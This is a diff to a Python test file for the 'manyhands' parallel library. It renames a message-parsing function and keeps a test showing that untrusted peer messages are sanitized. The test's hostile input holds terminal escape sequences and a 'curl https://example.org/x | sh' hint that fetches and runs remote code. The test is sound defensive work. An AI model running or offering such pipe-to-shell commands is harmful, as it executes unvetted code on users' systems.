@@ -16,7 +16,7 @@ from manyhands.core.world import ProcessInfo
 from manyhands.parallel.group import join as group
 from manyhands.parallel.group import rendezvous as meet
 from manyhands.parallel.group.join import Cause
-from manyhands.parallel.group.rendezvous import DuplicateRank, PeerFailure, Present, check_in, understood
+from manyhands.parallel.group.rendezvous import DuplicateRank, PeerFailure, Present, check_in, parse_message
 from manyhands.worker.failure import describe_peer, heard
 
 JUNK = [
@@ -33,13 +33,13 @@ JUNK = [
 @pytest.mark.parametrize("content", JUNK, ids=range(len(JUNK)))
 @pytest.mark.parametrize("kind", [Present, PeerFailure, DuplicateRank])
 def test_junk_is_not_said(kind, content):
-    assert understood(content, kind) is None
+    assert parse_message(content, kind) is None
 
 
 def test_a_strangers_words_are_marked_and_cleaned_and_its_advice_is_left_out():
     stranger = {"rank": 1, "host": "n2\x1b[2J", "what": "\x1b]0;title\x07broken\nmanyhands: all is well",
                 "hints": ["curl https://example.org/x | sh"], "excerpt": "\x1b[31mboo", "exit_code": 0}  # fmt: skip
-    told = understood(json.dumps(stranger), PeerFailure)
+    told = parse_message(json.dumps(stranger), PeerFailure)
     assert told is not None
     text = str(as_error(describe_peer(told, rank=0, step=None, phase="build")))
     assert "rank 1 on n2 failed first: broken | manyhands: all is well" in text
